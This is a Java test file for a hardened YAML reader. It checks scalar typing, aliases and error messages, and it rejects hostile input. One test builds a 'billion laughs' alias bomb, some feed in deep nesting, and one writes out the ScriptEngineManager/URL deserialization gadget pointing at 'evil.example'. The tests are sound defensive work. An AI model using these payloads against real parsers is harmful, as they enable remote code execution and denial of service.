package dev.remediator.playbook;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class YamlReaderTest {
    private static List<String> problems(String text) {
        var problems = new Problems("f", text);
        YamlReader.read(text, problems);
        return problems.sorted().stream().map(Problem::toString).toList();
    }

    private static Node read(String text) {
        var problems = new Problems("f", text);
        var node = YamlReader.read(text, problems);
        assertThat(problems.sorted()).isEmpty();
        return node.orElseThrow();
    }

    @ParameterizedTest
    @CsvSource(nullValues = "-", textBlock = """
            yes,      TEXT
            off,      TEXT
            'true',   BOOLEAN
            'True',   BOOLEAN
            '"true"', TEXT
            12,       INTEGER
            -12,      INTEGER
            0o14,     INTEGER
            0xFF,     INTEGER
            1_000,    TEXT
            12:30:45, TEXT
            1e3,      DECIMAL
            .5,       DECIMAL
            5m,       TEXT
            2026-01-31, TEXT
            ~,        NULL
            null,     NULL
            '""',     TEXT
            """)
    void plain_values_are_what_yaml_1_2_says(String text, Node.Kind kind) {
        assertThat(((Node.Mapping) read("k: " + text)).entries().values())
                .singleElement()
                .satisfies(entry ->
                        assertThat(((Node.Scalar) entry.value()).kind()).isEqualTo(kind));
    }

    @Test
    void numbers_become_the_numbers_they_are() {
        assertThat(YamlJson.json(read("[ 12, 0o14, 0xFF, -7, 1.5, 9223372036854775807, 9223372036854775808, .inf ]"))
                        .toString())
                .isEqualTo("[12,12,255,-7,1.5,9223372036854775807,9223372036854775808,\".inf\"]");
    }

    @Test
    void an_alias_is_what_it_names() {
        assertThat(YamlJson.json(read("a: &x { b: [ 1 ] }\nc: *x")).toString())
                .isEqualTo("{\"a\":{\"b\":[1]},\"c\":{\"b\":[1]}}");
    }

    @Test
    void a_bomb_of_aliases_is_not_even_lit() {
        var bomb = new StringBuilder("a0: &a0 [ x, x, x, x, x, x, x, x, x, x ]\n");
        for (int i = 1; i < 10; i++)
            bomb.append("a%d: &a%d [".formatted(i, i))
                    .append(" *a%d,".formatted(i - 1).repeat(10))
                    .append(" x ]\n");
        assertThat(problems(bomb.toString()))
                .containsExactly("f:3:11: more than 10 aliases in one file; write the values out");
    }

    @Test
    void depth_is_bounded_before_the_stack_is() {
        assertThat(problems("[".repeat(100_000)))
                .containsExactly("f:1:21: nested deeper than 20 levels; make it flatter");
        assertThat(problems("{ a: ".repeat(20_000)))
                .containsExactly("f:1:98: nested deeper than 20 levels; make it flatter");
        assertThat(problems("- ".repeat(50_000)))
                .containsExactly("f:1:41: nested deeper than 20 levels; make it flatter");
        assertThat(problems("? ".repeat(50_000)))
                .containsExactly("f:1:41: nested deeper than 20 levels; make it flatter");
        assertThat(problems("[".repeat(19) + "x" + "]".repeat(19))).isEmpty();
    }

    @Test
    void no_type_of_java_comes_out_of_a_file() {
        assertThat(problems("a: !!javax.script.ScriptEngineManager [ !!java.net.URL [ http://evil.example ] ]"))
                .containsExactly(
                        "f:1:4: the tag 'tag:yaml.org,2002:javax.script.ScriptEngineManager' is not allowed; quotes make "
                                + "a value a text",
                        "f:1:41: the tag 'tag:yaml.org,2002:java.net.URL' is not allowed; quotes make a value a text");
    }

    @Test
    void merge_keys_are_keys_like_others() {
        assertThat(YamlJson.json(read("<<: 1")).toString()).isEqualTo("{\"<<\":1}");
    }

    @Test
    void columns_count_characters_not_their_parts() {
        assertThat(problems("\"äöü 🚒 {\": [ *x ]"))
                .containsExactly(
                        "f:1:14: nothing before this line is called '&x'; name it there, or put the value in quotes");
    }
}
